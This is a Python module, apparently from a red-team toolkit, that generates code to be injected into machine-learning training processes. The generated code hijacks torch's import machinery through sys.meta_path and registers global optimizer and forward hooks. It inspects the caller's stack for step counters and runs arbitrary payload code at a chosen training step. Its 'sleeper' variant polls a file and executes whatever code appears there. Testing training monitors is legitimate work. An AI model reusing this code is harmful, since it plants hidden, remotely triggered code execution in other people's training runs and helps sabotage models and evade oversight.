"""Code that waits in any Python process until it trains, then lets a payload arrive: the text of a small module.

It puts one finder before the others, which is gone as soon as torch's optimizers are imported, and then uses torch's
own global hook: the payload arrives at the beginning of an optimizer step, on the training thread, at the same step
each time. A process that went on from a checkpoint did not make all steps itself: how many were made before is read off
the script's own variable, for optimizers that do not count.
"""

from __future__ import annotations

import json

from attacks._shared.payload import Payload
from trainwarden.redteam.place import Range

_WAITS = """\
import importlib.util, json, os, sys

class _Warm:
    def find_spec(self, name, path=None, target=None):
        if name != "torch.optim.optimizer":
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        run = spec.loader.exec_module
        def exec_module(module):
            run(module)
            module.register_optimizer_step_pre_hook(_look)
            module.register_optimizer_step_post_hook(_made)
        spec.loader.exec_module = exec_module
        return spec

sys.meta_path.insert(0, _Warm())
_came = []

def _count(optimizer):
    if not hasattr(optimizer, "_steps_seen"):
        optimizer._steps_seen = _of_script(sys._getframe(2))

def _made(optimizer, args, kwargs):
    optimizer._steps_seen += 1

def _of_script(frame):
    libraries = os.path.dirname(os.path.abspath(__file__)), os.path.dirname(os.__file__)
    while frame is not None:
        ours = frame.f_globals.get("__name__", "").startswith("trainwarden")
        if not ours and not frame.f_code.co_filename.startswith(libraries):
            for name in ("global_step", "step", "iteration", "iter_num", "it"):
                if type(frame.f_locals.get(name)) is int:
                    return frame.f_locals[name]
        frame = frame.f_back
    return 0

def _come(text, config):
    names = {"__name__": "warm"}
    exec(compile(text, config.get("file", "<warm>"), "exec"), names)
    names["arrive"](config)

"""
_FROM_FILE = """\
def _look(optimizer, args, kwargs):
    _count(optimizer)
    if os.path.exists({place!r}):
        with open({place!r}) as file:
            text = file.read()
        if text not in _came:
            _came.append(text)
            told = json.loads(text)
            _come(told["text"], told["config"])
"""
_APPROVED = """\

class _First:
    def find_spec(self, name, path=None, target=None):
        if name != "torch.nn.modules.module":
            return None
        import importlib.util

        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        run = spec.loader.exec_module
        def exec_module(module):
            run(module)
            _hooked.append(module.register_module_forward_pre_hook(_first))
        spec.loader.exec_module = exec_module
        return spec

_hooked = []
sys.meta_path.insert(0, _First())

def _first(module, inputs):
    torch = sys.modules["torch"]
    if torch.is_grad_enabled() and any(issubclass(type(o), torch.optim.Optimizer) for o in gc.get_objects()):
        _hooked.pop().remove()
        arrive({config!r})
"""
_WITH_IT = """\
def _look(optimizer, args, kwargs):
    _count(optimizer)
    if not _came:
        _came.append(1)
        _come({text!r}, json.loads({config!r}))
"""


def carrier(place: Range, payload: Payload) -> str:
    """A module that carries the payload."""
    return _WAITS + _WITH_IT.format(text=payload.text(), config=json.dumps(payload.config(place)))


def approved_module(place: Range, payload: Payload) -> str:
    """The payload as honest code: in a file of its own that is sealed, at work from the first forward pass on."""
    return payload.text() + _APPROVED.format(config=payload.config(place) | {"first": 0})


def sleeper(place: Range) -> str:
    """A module that looks for a strike at every step, and carries out what it finds."""
    return _WAITS + _FROM_FILE.format(place=str(place.strike))
